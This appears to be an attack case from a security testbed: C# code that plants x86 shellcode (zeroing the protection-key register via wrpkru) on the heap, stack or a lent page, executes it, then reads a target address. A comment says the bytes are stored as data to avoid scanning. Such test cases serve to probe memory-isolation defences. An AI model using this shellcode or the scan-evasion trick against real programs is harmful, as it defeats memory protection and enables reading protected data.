using System;
using System.Runtime;
using System.Runtime.CompilerServices;
using Testbed.Application;

namespace Testbed.Attacks.D11;

/// <summary>
/// Writes code that opens every key into its own heap, stack, or a page that it then lends to U (keys do not stop a fetch),
/// and calls it; then reads what <c>target=</c> names. The twin calls code of its own that stands where code belongs.
/// </summary>
static unsafe class Payload
{
    // xor eax, eax / xor ecx, ecx / xor edx, edx / wrpkru / ret. Data, so no scan looks at it.
    static ReadOnlySpan<byte> OpenAll => [0x31, 0xC0, 0x31, 0xC9, 0x31, 0xD2, 0x0F, 0x01, 0xEF, 0xC3];

    public static void Run(ulong attempt)
    {
        ReadOnlySpan<byte> place = CommandLine.Value("place"u8);
        byte* stack = stackalloc byte[Memory.PageBytes];
        nuint code = place.SequenceEqual("heap"u8) ? Heap()
            : place.SequenceEqual("stack"u8) ? Filled((nuint)stack)
            : place.SequenceEqual("lent"u8) ? Lent()
            : ReturnAddress();
        if (!Attempt.TryBegin(attempt))
            return;
        Call(code);
        Attempt.Keep(Attempt.Address("target"u8));
        Attempt.End();
    }

    /// <summary>Writes the code there.</summary>
    public static nuint Filled(nuint target)
    {
        // SAFETY: at least so many bytes of this program's own lie there.
        OpenAll.CopyTo(new Span<byte>((void*)target, OpenAll.Length));
        return target;
    }

    static nuint Heap()
    {
        // SAFETY: no object moves, and none is freed.
        fixed (byte* first = new byte[Memory.PageBytes])
            return Filled((nuint)first);
    }

    static nuint Lent()
    {
        Memory.Map(1, out Memory page);
        Filled(page.Address);
        page.Lend();
        return page.Address;
    }

    /// <summary>Calls what stands at an address.</summary>
    [RuntimeImport("*", "call_address"), MethodImpl(MethodImplOptions.InternalCall)]
    public static extern void Call(nuint code);

    /// <summary>Address of code that only returns.</summary>
    [RuntimeImport("*", "return_address"), MethodImpl(MethodImplOptions.InternalCall)]
    public static extern nuint ReturnAddress();
}
